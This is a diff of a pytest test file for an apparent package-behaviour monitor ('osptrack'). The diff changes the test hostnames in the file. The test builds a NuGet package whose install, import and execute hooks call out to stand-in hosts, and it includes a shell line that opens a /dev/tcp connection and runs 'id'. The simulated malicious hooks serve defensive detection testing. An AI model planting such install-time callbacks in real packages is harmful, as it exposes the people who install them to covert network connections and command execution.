@@ -75,7 +75,7 @@ def build_nupkg(dest: Path) -> Path:
         "OsptrackNugetHook",
         "dll",
         ".method private hidebysig specialname rtspecialname static void .cctor() cil managed {"
-        + il_behaviour("nuget-import.osptrack-test.example")
+        + il_behaviour("nuget-import.osptrack-test.example.com")
         + "}\n.class public auto ansi beforefieldinit OsptrackNugetHook.Marker extends [mscorlib]System.Object { }\n",
     )
     exe = ilasm(
@@ -83,10 +83,10 @@ def build_nupkg(dest: Path) -> Path:
         "osptrack-nuget-tool",
         "exe",
         ".method public static void Main(string[] args) cil managed { .entrypoint"
-        + il_behaviour("nuget-execute.osptrack-test.example")
+        + il_behaviour("nuget-execute.osptrack-test.example.com")
         + "}\n",
     )
-    host = "nuget-install.osptrack-test.example"
+    host = "nuget-install.osptrack-test.example.com"
     shell = f"exec 3&lt;&gt;/dev/tcp/{host}/{PORT}; echo nuget-install-ran; id"
     targets = f"""<?xml version="1.0" encoding="utf-8"?>
 <Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
@@ -138,9 +138,9 @@ def nuget_run(tmp_path_factory: pytest.TempPathFactory) -> dict:
 @pytest.mark.parametrize(
     ("phase", "host"),
     [
-        ("install", "nuget-install.osptrack-test.example"),
-        ("import", "nuget-import.osptrack-test.example"),
-        ("execute", "nuget-execute.osptrack-test.example"),
+        ("install", "nuget-install.osptrack-test.example.com"),
+        ("import", "nuget-import.osptrack-test.example.com"),
+        ("execute", "nuget-execute.osptrack-test.example.com"),
     ],
 )
 def test_each_phase_records_dns_connect_exec(nuget_run: dict, phase: str, host: str) -> None:
